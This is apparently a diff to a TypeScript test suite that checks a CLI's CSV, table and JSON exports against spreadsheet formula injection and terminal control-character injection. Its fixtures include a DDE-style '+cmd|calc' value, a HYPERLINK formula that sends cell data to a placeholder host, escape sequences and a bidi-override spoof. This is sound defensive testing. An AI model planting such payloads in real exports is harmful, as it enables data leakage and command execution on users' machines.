@@ -14,8 +14,10 @@ import { log } from '#tests/silent-log.ts';
 const HOSTILE = [
   ...['=1+1', '+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
   ...['a,"b"', 'two\nlines', "O'Neil", '1-2', '=HYPERLINK("http://x.example?"&A1,"b")'],
-  ...['a;=1+1', '\u0080\u009b31mred\u0085\u009f'],
+  ...['a;=1+1', '\u0080\u009b31mred\u0085\u009f', '\u001b]0;title\u0007José\u007f', '\u0001=1+1', '\u202emoc.live'],
 ];
+/** What a terminal obeys. */
+const STEERS = /(?![\t\r\n])[\p{Cc}\p{Bidi_Control}]/gu;
 const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
 const form = { page: '/contact-us', address: '192.0.2.7', userAgent: 'A browser', quarantine: false, wording: null };
 let env: Record<string, string>;
@@ -68,20 +70,42 @@ test.each([
   if (noun === 'consents') expect([...byId(listed).keys()].sort()).toEqual([...byId(rows).keys()].sort());
   else expect(byId(rows)).toEqual(byId(listed));
 
-  const [header = [], ...lines] = parseCsv(out);
+  // Without the mark, spreadsheets take the text for another alphabet's.
+  expect(out.startsWith('\ufeff')).toBe(true);
+  expect(out.split('\ufeff')).toHaveLength(2);
+  expect(out).not.toMatch(STEERS);
+  const [header = [], ...lines] = parseCsv(out.slice(1));
   expect(header).toEqual(Object.keys(rows[0] ?? {}));
   expect(lines.map(([id]) => id)).toEqual(rows.map(({ id }) => String(id)));
   const cells = lines.map((line) => line[header.indexOf(field)]);
-  for (const text of HOSTILE) expect(cells).toContain(FORMULA.test(text) ? `'${text}` : text);
+  for (const text of HOSTILE) {
+    expect(cells).toContain((FORMULA.test(text) ? `'${text}` : text).replace(STEERS, '\ufffd'));
+  }
+
   expect(lines.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
   expect(lines.every((line) => line.length === header.length)).toBe(true);
   // Many spreadsheets split at a semicolon.
   expect(out).toContain(',"a;=1+1",');
 });
 
-test('escapes C1 control characters in JSON and keeps their value', async () => {
+test('prints tables and single rows without control characters', async () => {
+  for (const words of [
+    ['messages', 'list'],
+    ['messages', 'show', `${HOSTILE.length - 2}`],
+    ['reviews', 'list'],
+  ]) {
+    const { out } = await ops(words, env);
+    expect(out).toContain('José');
+    expect(out).not.toMatch(STEERS);
+  }
+  const { out } = await ops(['messages', 'list', '--csv'], env);
+  expect(out).toMatch(/^\ufeffid,createdAt,.*José/s);
+  expect(out).not.toMatch(STEERS);
+});
+
+test('escapes control characters in JSON and keeps their value', async () => {
   const { out } = await ops(['messages', 'export', '--json'], env);
-  expect(out).not.toMatch(/[\u0080-\u009f]/);
+  expect(out).not.toMatch(STEERS);
   const names = out
     .trim()
     .split('\n')
